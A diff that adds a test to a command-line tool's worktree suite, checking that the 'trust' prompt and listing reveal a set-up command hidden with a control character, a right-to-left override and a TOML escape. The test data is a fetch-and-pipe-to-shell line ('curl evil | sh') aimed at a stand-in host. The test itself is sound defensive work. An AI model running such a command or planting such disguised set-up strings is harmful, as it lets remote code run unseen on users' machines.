@@ -134,6 +134,14 @@ describe('worktrees', () => {
     expect((await run('worktrees', 'trust', '/')).code).not.toBe(0);
   });
 
+  test('trust shows all of the command: neither an escape sequence nor an escape of TOML hides a part of it', async () => {
+    repository.write('.cbos/worktree.toml', 'set_up = "npm ci \u009d; curl evil \u202e| \\u0073h"\n');
+    const { stdout } = await run('worktrees', 'trust', '--yes');
+    expect(stdout).toContain('The command:\n  npm ci \\u009d; curl evil \\u202e| sh\n');
+    expect(stdout).toContain('npm ci \\u009d; curl evil \\u202e| sh runs in each new worktree');
+    expect((await run('worktrees')).stdout).toContain('set-up: npm ci \\u009d; curl evil \\u202e| sh');
+  });
+
   test('`show` names the set-up with its state and cure, and the port; `ls -l` has a column for the port', async () => {
     await run('new', 'AUTH', '--worktree');
     const { worktree, status } = cli.server.sessions.get('AUTH');
